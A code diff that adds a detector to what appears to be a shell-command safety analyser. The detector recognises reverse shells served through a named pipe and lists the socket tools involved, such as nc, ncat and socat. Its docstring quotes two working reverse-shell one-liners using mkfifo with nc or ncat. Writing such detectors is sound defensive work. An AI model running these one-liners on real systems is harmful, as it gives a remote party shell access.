@@ -2785,3 +2785,34 @@ def send_code(cmd: SimpleCommand, sc: Scope) -> str | None:
     if cmd.name in ("mail", "mailx", "mutt", "swaks") and any(v in ("-a", "-A", "--attach") or v.startswith("--attach") for v in vals):
         return f"{cmd.name} mails an attachment"
     return None
+
+
+# Programs that connect to or listen on a network socket and write what the peer sends to their standard output.
+_SOCKET_WRITERS = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "openssl", "cryptcat", "sbd"})
+
+
+def shell_fed_by_socket(commands: list[SimpleCommand]) -> str | None:
+    """A shell that reads its commands from a file which another command of the same line fills with what a network
+    peer sends: `mkfifo F; sh -i < F 2>&1 | nc -l 4444 > F`, `cat F | bash -i | ncat HOST PORT > F`.  The named pipe
+    closes the loop a `nc … | sh` pipe closes directly (rce.pipe-to-shell): the peer types, the shell runs it, its
+    output goes back.  Judged over the whole line (engine.analyse_shell), as net.reverse-shell."""
+    written: dict[str, str] = {}
+    for c in commands:
+        if c.name not in _SOCKET_WRITERS or (c.name == "socat" and socat_local(c)):
+            continue
+        if c.name == "openssl" and not any(v in ("s_client", "s_server") for v in c.values()):
+            continue
+        for r in c.redirects:
+            if r.writes and r.target is not None and r.fd in ("", "1"):
+                written[r.target.value] = c.name
+    if not written:
+        return None
+    for c in commands:
+        if c.name not in SHELLS or not _program_from_stdin(c):
+            continue
+        sources = [r.target.value for r in c.redirects if r.reads and r.target is not None and r.fd in ("", "0")]
+        sources += [v for s in c.stdin_from if s.name == "cat" for v in s.values() if not v.startswith("-")]
+        for f in sources:
+            if f in written:
+                return f"{c.name} reads its commands from {f}, which {written[f]} fills with what a network peer sends (a shell served through a named pipe)"
+    return None
